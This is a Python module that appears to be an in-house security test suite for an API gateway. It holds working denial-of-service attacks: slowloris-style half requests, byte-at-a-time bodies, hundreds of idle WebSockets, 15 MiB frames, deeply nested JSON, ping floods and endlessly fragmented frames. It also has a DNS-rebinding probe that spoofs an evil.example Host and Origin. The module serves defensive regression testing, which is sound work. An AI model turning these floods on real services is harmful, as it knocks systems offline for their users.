"""Attacks on the gateway: requests and sockets that do not end, and pages of strangers."""

import asyncio
import base64
import contextlib
import json
import os
from collections.abc import AsyncIterator, Awaitable, Callable

import httpx
import websockets
from maskwire.v1 import decoder_pb2 as pb

from .kinds import Outcomes, Target, attack

MIB = 1 << 20


async def _raw(target: Target, count: int, first: bytes, trickle: bytes = b"") -> Outcomes:
    """Opens connections that send something, then a little each 0.2 s, and counts how they end."""
    outcomes = Outcomes()

    async def one() -> None:
        try:
            reader, writer = await asyncio.open_connection(*target.web)
        except OSError as error:
            outcomes[type(error).__name__] += 1
            return
        reading = asyncio.ensure_future(reader.read(1000))
        try:
            writer.write(first)
            for _ in range(int(target.seconds / 0.2)):
                await asyncio.wait({reading}, timeout=0.2)
                if reading.done():
                    break
                writer.write(trickle)
            if reading.done():
                outcomes[reading.result().split(b"\r\n")[0].decode(errors="replace") or "closed"] += 1
            else:
                outcomes["held until the end"] += 1
        except OSError as error:
            outcomes[type(error).__name__] += 1
        finally:
            reading.cancel()
            writer.close()

    await asyncio.gather(*(one() for _ in range(count)))
    return outcomes


def _head(target: Target, line: str, *more: str) -> bytes:
    return "\r\n".join([line, f"Host: {target.gateway}", *more]).encode()


@attack(
    "half a request", "1,100 connections that send half of their headers", token=False, before="blocked for everybody"
)
async def half_requests(target: Target) -> Outcomes:
    return await _raw(target, 1100, _head(target, "GET /v1/models HTTP/1.1") + b"\r\nX-A: ", b"b")


@attack(
    "slow bodies", "300 requests whose bodies come a byte at a time", token=False, before="429 for everybody for 30 s"
)
async def slow_bodies(target: Target) -> Outcomes:
    head = _head(target, "POST /v1/images HTTP/1.1", "Content-Length: 1000")
    return await _raw(target, 300, head + b"\r\n\r\nx", b"x")


@attack("slow bodies of a tenant", "the same with a token", token=True)
async def slow_bodies_of_a_tenant(target: Target) -> Outcomes:
    head = _head(target, "POST /v1/images HTTP/1.1", "Content-Length: 1000", f"Authorization: Bearer {target.token}")
    return await _raw(target, 300, head + b"\r\n\r\nx", b"x")


@attack(
    "sockets", "600 WebSockets without a token that stay open", token=False, before="513th refused, also 45 s later"
)
async def sockets(target: Target) -> Outcomes:
    key = base64.b64encode(os.urandom(16)).decode()
    head = _head(
        target, "GET /v1/stream HTTP/1.1", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13",
        f"Sec-WebSocket-Key: {key}",
    )  # fmt: skip
    return await _raw(target, 600, head + b"\r\n\r\n")


@contextlib.asynccontextmanager
async def _socket(target: Target) -> AsyncIterator[websockets.ClientConnection]:
    headers = dict(target.metadata)
    async with websockets.connect(
        f"ws://{target.gateway}/v1/stream", additional_headers=headers, max_size=None, ping_interval=None,
        close_timeout=0.1, compression=None,
    ) as socket:  # fmt: skip
        yield socket


async def _talk(
    target: Target, count: int, talk: Callable[[websockets.ClientConnection, Outcomes], Awaitable[None]]
) -> Outcomes:
    outcomes = Outcomes()

    async def one() -> None:
        try:
            async with asyncio.timeout(target.seconds), _socket(target) as socket:
                await talk(socket, outcomes)
        except TimeoutError:
            outcomes["held until the end"] += 1
        except websockets.ConnectionClosed as error:
            outcomes[f"closed {error.rcvd.code if error.rcvd else 'without a code'}"] += 1
        except (websockets.InvalidStatus, OSError) as error:
            status = getattr(getattr(error, "response", None), "status_code", type(error).__name__)
            outcomes[str(status)] += 1

    await asyncio.gather(*(one() for _ in range(count)))
    return outcomes


@attack(
    "read-ahead of a socket",
    "four WebSockets, 40 frames of 15 MiB behind a set_image that waits",
    token=True,
    before="+2 GiB in gateway and decoder",
)
async def socket_read_ahead(target: Target) -> Outcomes:
    wait = pb.SegmentStreamRequest(set_image=pb.SetImage(image_id="missing", wait_ms=60_000)).SerializeToString()
    large = pb.SegmentStreamRequest()
    large.segment.prompts.add().prompt_id = "x" * (15 * MIB)
    frame = large.SerializeToString()

    async def talk(socket: websockets.ClientConnection, outcomes: Outcomes) -> None:
        await socket.send(wait)
        for _ in range(40):
            await socket.send(frame)
            outcomes["sent"] += 1
        await asyncio.sleep(target.seconds)

    return await _talk(target, 4, talk)


@attack("values in a socket", "8 WebSockets whose frames of 16 MB are lists without anything in them", token=True)
async def socket_values(target: Target) -> Outcomes:
    frame = "[" + "[]," * 5_000_000 + "[]]"

    async def talk(socket: websockets.ClientConnection, outcomes: Outcomes) -> None:
        while True:
            await socket.send(frame)
            await socket.recv()
            outcomes["answered"] += 1

    return await _talk(target, 8, talk)


@attack("pings of a socket", "20 WebSockets that ping without end and read no answer", token=True)
async def socket_pings(target: Target) -> Outcomes:
    async def talk(socket: websockets.ClientConnection, outcomes: Outcomes) -> None:
        transport = socket.transport
        transport.pause_reading()
        masked = b"\x89\xfd" + bytes(4) + bytes(125)
        while not transport.is_closing():
            transport.write(masked * 50)
            outcomes["sent"] += 50
            await _written(transport)
            await asyncio.sleep(0)

    return await _talk(target, 20, talk)


@attack("a socket in pieces", "20 WebSockets whose frame of 16 MiB comes in endless small pieces", token=True)
async def socket_pieces(target: Target) -> Outcomes:
    async def talk(socket: websockets.ClientConnection, outcomes: Outcomes) -> None:
        transport = socket.transport
        transport.write(b"\x02\x80" + bytes(4))
        while not transport.is_closing():
            transport.write((b"\x00\x81" + bytes(5)) * 500)
            await _written(transport)
            await asyncio.sleep(0.01)
        await socket.recv()

    return await _talk(target, 20, talk)


async def _written(transport: asyncio.Transport) -> None:
    """Waits until the server has read most of what was written, as `StreamWriter.drain` does."""
    for _ in range(10_000):
        if transport.get_write_buffer_size() <= MIB:
            return
        await asyncio.sleep(0.05)


@attack(
    "rebinding",
    "a page of evil.example, whose name now means this machine, stores, reads, segments and deletes",
    token=True,
    before="all of it worked",
)
async def rebinding(target: Target) -> Outcomes:
    outcomes = Outcomes()
    segment = json.dumps({"prompts": [{"points": [{"x_px": 3, "y_px": 3}]}]}).encode()
    headers = {"Host": "evil.example:9001", "Origin": "http://evil.example:9001", **dict(target.metadata)}
    async with httpx.AsyncClient(base_url=f"http://{target.gateway}", headers=headers) as client:
        for method, path, body in (
            ("GET", "/v1/models", b""),
            ("POST", f"/v1/images/{target.image_id}/segment", segment),
            ("DELETE", "/v1/images/nothing", b""),
        ):
            answer = await client.request(method, path, content=body)
            outcomes[f"{answer.status_code} {answer.json().get('reason', '')}".strip()] += 1
    return outcomes
